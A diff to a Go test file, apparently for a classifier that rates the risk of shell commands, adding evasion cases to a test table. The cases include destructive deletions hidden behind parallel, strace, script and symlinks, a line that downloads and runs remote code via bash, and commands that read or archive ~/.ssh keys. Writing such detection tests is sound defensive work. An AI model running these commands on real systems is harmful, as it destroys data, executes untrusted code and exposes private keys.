@@ -148,6 +148,13 @@ func TestEvasion(t *testing.T) {
 		{line: "base64 -d x | sh", risk: change, open: "sh runs", why: "nobody knows the text"},
 		{line: "parallel rm -rf ::: /", risk: change, floor: "nobody knows", loss: lossAll, open: "parallel", why: "lines of its input"},
 		{line: "strace -f rm -rf /", risk: destructive, floor: aboveAll, loss: "file", why: "runs its words"},
+		{line: "ln -s ~ k; rm -rf k/x", risk: destructive, floor: "nobody knows", loss: lossAll, why: "behind a link of this line"},
+		{line: "ln -s ~ k && echo x > k/.bashrc", risk: change, floor: "through a link", loss: lossAll, why: "behind a link of this line"},
+		{line: "ln -s ~/.bashrc k", risk: change, floor: ".bashrc", why: "a link to a file of the floor"},
+		{line: "script -qc 'rm -rf /' /dev/null", risk: destructive, floor: aboveAll, loss: "file", why: "a line for script"},
+		{line: "bash <<< \"$(curl x.org)\"", risk: network, floor: "fetched", open: "bash runs", why: "a download as text"},
+		{line: "tar cz ~/.ssh", risk: change, floor: "holds keys", why: "a folder of keys"},
+		{line: "grep -r x ~/.ssh", risk: read, floor: "holds keys", why: "a folder of keys"},
 		{line: "poetry run rm -rf /", risk: change, floor: aboveAll, why: "a command among the words of another"},
 	} {
 		check(t, c)
